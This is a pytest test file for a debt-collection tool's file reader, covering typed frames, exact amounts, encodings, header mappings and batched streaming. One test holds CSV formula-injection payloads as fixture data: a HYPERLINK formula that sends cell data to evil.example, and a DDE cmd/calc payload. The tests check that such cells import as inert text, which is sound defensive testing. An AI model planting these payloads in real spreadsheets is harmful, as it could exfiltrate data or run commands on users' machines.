"""Reading user files: typed frames, exact amounts, defaults, mappings, encodings and streaming."""

from __future__ import annotations

import json
from datetime import date
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from arrears.domain.columns import COLUMNS, Kind
from arrears.domain.money import to_minor
from arrears.domain.problems import ProblemsFound
from arrears.io.batches import ReadOptions, ValidatedBatch
from arrears.io.reading import read_file

HOSTILE = Path(__file__).parent / "hostile"
UNIQUE = "ids must be unique in a file"


def read(path: Path, kind: Kind, **options: object) -> list[ValidatedBatch]:
    return list(read_file(path, kind, ReadOptions(**options)))  # type: ignore[arg-type]


def valid(path: Path, kind: Kind, **options: object) -> pl.DataFrame:
    batches = read(path, kind, **options)
    assert [p for b in batches for p in b.problems] == []
    return pl.concat([b.valid for b in batches])


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_typed_frame_has_the_documented_fields_and_types(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "inv.csv",
        "invoice_id,debtor_id,issue_date,due_date,amount,disputed,instalment\n"
        "I1,D1,2026-01-05,2026-02-04,1234.5,sí,2\n",
    )
    frame = valid(path, Kind.INVOICES)
    assert frame.columns == [c.field for c in COLUMNS[Kind.INVOICES]] + ["source", "row"]
    assert frame.schema["amount_minor"] == pl.Int64
    assert frame.schema["issue_date"] == pl.Date
    assert frame.schema["instalment"] == pl.Int32
    assert frame.schema["disputed"] == pl.Boolean
    assert frame.row(0, named=True) | {"source": None} == {
        "invoice_id": "I1",
        "debtor_id": "D1",
        "issue_date": date(2026, 1, 5),
        "due_date": date(2026, 2, 4),
        "amount_minor": 123450,
        "currency": "USD",  # the base currency when absent
        "number": "I1",  # the invoice id when absent
        "instalment": 2,
        "disputed": True,
        "reference": None,
        "portfolio": "default",
        "source": None,
        "row": 2,
    }


def test_debtor_defaults_attributes_tags_and_phones(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "debtors.csv",
        "Código Cliente,Razón Social,Teléfono,País,attr_Sector,attr_Tier,Etiquetas,Segmento\n"
        'C1,Compañía,300 123 4567,co,"retail, ""big""",,vip; late ;,smb\n'
        "C2,Beta,+1 212 555 0100,,,,,\n",
    )
    frame = valid(path, Kind.DEBTORS, default_country="US", default_timezone="America/Bogota")
    first, second = frame.to_dicts()
    assert (first["debtor_id"], first["name"], first["country"]) == ("C1", "Compañía", "CO")
    assert first["phone"] == "+573001234567"
    assert second["phone"] == "+12125550100"
    assert second["country"] == "US"
    assert first["timezone"] == "America/Bogota"
    assert json.loads(first["attributes"]) == {"Sector": 'retail, "big"'}
    assert json.loads(second["attributes"]) == {}
    assert first["tags"] == ["vip", "late"]
    assert second["tags"] == []
    assert first["segment"] == "smb"
    assert (first["kind"], first["consent_sms"], first["do_not_contact"]) == (
        "company",
        "unknown",
        False,
    )


def test_mapping_names_the_users_headers(tmp_path: Path) -> None:
    path = write(tmp_path, "d.csv", "NIT Cliente;Nombre Completo\n900123;Acme\n")
    mapping = {"debtor_id": "NIT Cliente", "name": "Nombre Completo"}
    frame = valid(path, Kind.DEBTORS, mapping=mapping)
    assert frame.select("debtor_id", "name").row(0) == ("900123", "Acme")
    with pytest.raises(ProblemsFound) as caught:
        read(path, Kind.DEBTORS, mapping={"debtor_id": "NIT", "nmae": "x"})
    messages = [p.message for p in caught.value.problems]
    assert any("maps 'nmae'" in m and "did you mean 'name'" in m for m in messages)
    assert any("debtor_id is the header 'NIT'" in m for m in messages)


def test_latin1_and_bom_files_read_the_same(tmp_path: Path) -> None:
    latin = valid(HOSTILE / "debtors.latin1.csv", Kind.DEBTORS)
    bom = valid(HOSTILE / "debtors.bom_spanish.csv", Kind.DEBTORS)
    assert latin["name"].to_list() == ["Compañía Ñandú", "José Pérez"]
    assert bom.drop("source").equals(latin.drop("source"))


def test_formula_cells_import_as_written() -> None:
    frame = valid(HOSTILE / "debtors.formula_cells.csv", Kind.DEBTORS)
    assert frame["name"].to_list() == [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+1",
        "@SUM(1+9)*cmd|' /C calc'!A0",
    ]
    # a cell escaped by `arrears export` comes back without its quote
    assert frame["address"].to_list() == ["=1+1", "-2+3", "=already escaped"]


def test_excel_cells_become_text_without_float_artefacts() -> None:
    batches = read(HOSTILE / "invoices.excel.xlsx", Kind.INVOICES)
    frame = pl.concat([b.valid for b in batches])
    assert frame.select("invoice_id", "debtor_id", "issue_date", "amount_minor").rows() == [
        ("INV-1", "1001", date(2026, 1, 5), 30),
        ("INV-2", "1002", date(2026, 1, 6), 125000),
    ]
    assert batches[0].raw["Amount"].to_list()[:2] == ["0.3", "1250"]


def test_decimal_comma_thousands_dots_and_day_first_dates() -> None:
    options = json.loads(
        (HOSTILE / "invoices.decimal_comma_configured.csv.options.json").read_text()
    )
    batches = read(HOSTILE / "invoices.decimal_comma_configured.csv", Kind.INVOICES, **options)
    frame = pl.concat([b.valid for b in batches])
    assert frame.select("invoice_id", "amount_minor", "currency").rows() == [
        ("F1", 123456, "EUR"),
        ("F2", 123456750, "EUR"),
        ("F3", 1250, "EUR"),
        ("F4", 123456, "EUR"),
        ("F7", 1000, "JPY"),
    ]
    assert frame["issue_date"].unique().to_list() == [date(2026, 1, 5)]


@settings(max_examples=200, deadline=None)
@given(
    amount=st.decimals(min_value=Decimal("0.01"), max_value=Decimal("999999999999.99"), places=2),
    style=st.sampled_from([(".", ""), (".", ","), (",", "."), (",", " "), (".", "'")]),
)
def test_amounts_are_exact_minor_units_in_any_notation(
    amount: Decimal, style: tuple[str, str], tmp_path_factory: pytest.TempPathFactory
) -> None:
    decimal, thousands = style
    whole, cents = f"{amount:.2f}".split(".")
    grouped = f"{int(whole):,}".replace(",", thousands) if thousands else whole
    text = f"{grouped}{decimal}{cents}"
    path = tmp_path_factory.mktemp("amounts") / "p.csv"
    path.write_text(f"payment_id|debtor_id|date|amount\nP1|D1|2026-01-01|{text}\n")
    frame = valid(path, Kind.PAYMENTS, decimal_separator=decimal, thousands_separator=thousands)
    assert frame["amount_minor"].to_list() == [to_minor(amount, "USD")]


def test_ids_stay_unique_across_batches_and_rows_keep_their_numbers(tmp_path: Path) -> None:
    lines = ["debtor_id,name"] + [f"D{i},N{i}" for i in range(10)] + ["D3,again", "D9,again"]
    path = write(tmp_path, "d.csv", "\n".join(lines) + "\n")
    batches = read(path, Kind.DEBTORS, batch_rows=4)
    assert [b.raw.height for b in batches] == [4, 4, 4]
    problems = [str(p) for b in batches for p in b.problems]
    assert problems == [
        f"{path}:12:debtor_id: duplicate debtor_id 'D3': already on row 5; {UNIQUE}",
        f"{path}:13:debtor_id: duplicate debtor_id 'D9': already on row 11; {UNIQUE}",
    ]
    assert pl.concat([b.valid for b in batches])["row"].to_list() == list(range(2, 12))


def test_rows_after_a_broken_row_keep_their_line_numbers(tmp_path: Path) -> None:
    text = "debtor_id,name\nD1,A\nD2;B\nD3,C\nD4,D,extra\nD5,\n"
    batches = read(write(tmp_path, "d.csv", text), Kind.DEBTORS, batch_rows=2)
    problems = {(p.row, p.column) for b in batches for p in b.problems}
    assert problems == {(3, None), (5, None), (6, "name")}
    assert pl.concat([b.valid for b in batches])["row"].to_list() == [2, 4]


def test_fatal_problems_are_all_raised_before_any_batch(tmp_path: Path) -> None:
    path = write(tmp_path, "i.csv", "invoice,Customer ID,customer_id,Fecha,fecha\nI1,D1,D1,x,y\n")
    with pytest.raises(ProblemsFound) as caught:
        next(read_file(path, Kind.INVOICES, ReadOptions()))
    messages = [str(p) for p in caught.value.problems]
    assert [m.split(": ", 1)[0].removeprefix(str(path)) for m in messages] == [
        ":1:customer_id",
        ":1:fecha",
        ":1",
        ":1",
    ]
    assert "the same header as column 2 ('Customer ID')" in messages[0]
    assert "missing required column due_date" in messages[2]
    assert "missing required column amount" in messages[3]


@pytest.mark.slow
def test_a_large_file_streams_in_batches_of_bounded_size(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    rows = 300_000
    frame = pl.DataFrame(
        {
            "invoice_id": pl.int_range(rows, eager=True).cast(pl.String),
            "debtor_id": "D1",
            "issue_date": "2026-01-01",
            "due_date": "2026-02-01",
            "amount": "10.50",
        }
    )
    frame.write_csv(path)
    sizes = []
    total = 0
    for batch in read_file(path, Kind.INVOICES, ReadOptions(batch_rows=50_000)):
        sizes.append(batch.raw.height)
        assert not batch.problems
        total += int(batch.valid["amount_minor"].sum())
    assert max(sizes) == 50_000 and sum(sizes) == rows
    assert total == rows * 1050


def test_a_bad_byte_past_the_first_chunk_is_reported(tmp_path: Path) -> None:
    rows = ["debtor_id,name"] + [f"D{i},Name {i}" for i in range(60_000)] + ["D_last,José"]
    path = tmp_path / "late.csv"
    path.write_bytes(("\n".join(rows) + "\n").encode("latin-1"))
    with pytest.raises(ProblemsFound) as caught:
        read(path, Kind.DEBTORS, batch_rows=10_000)
    (problem,) = caught.value.problems
    assert problem.row == 60_002  # the line, as if it were in the first chunk
    assert problem.message.startswith("is not UTF-8 text (byte 0xE9, 'é' in Latin-1, at byte 11")
    assert "set import.encoding = 'latin-1'" in problem.message
    # as Latin-1, it reads
    frame = valid(path, Kind.DEBTORS, encoding="latin-1", batch_rows=10_000)
    assert frame["name"][-1] == "José"


def test_a_byte_order_mark_wins_over_the_encoding_setting() -> None:
    frame = valid(HOSTILE / "debtors.bom_spanish.csv", Kind.DEBTORS, encoding="latin-1")
    assert frame["name"].to_list() == ["Compañía Ñandú", "José Pérez"]


def test_iso_date_times_count_as_their_date(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "p.csv",
        "payment_id,debtor_id,date,amount\n"
        "P1,D1,2026-01-05 00:00:00,1\n"
        "P2,D1,2026-01-06T10:30:00Z,1\n"
        "P3,D1,2026-01-07T10:30:00.123+01:00,1\n",
    )
    assert valid(path, Kind.PAYMENTS)["date"].to_list() == [
        date(2026, 1, 5),
        date(2026, 1, 6),
        date(2026, 1, 7),
    ]


def test_a_missing_file_is_a_problem(tmp_path: Path) -> None:
    with pytest.raises(ProblemsFound, match="1 problem") as caught:
        read(tmp_path / "nope.csv", Kind.DEBTORS)
    assert str(caught.value.problems[0]) == f"{tmp_path / 'nope.csv'}: no such file"
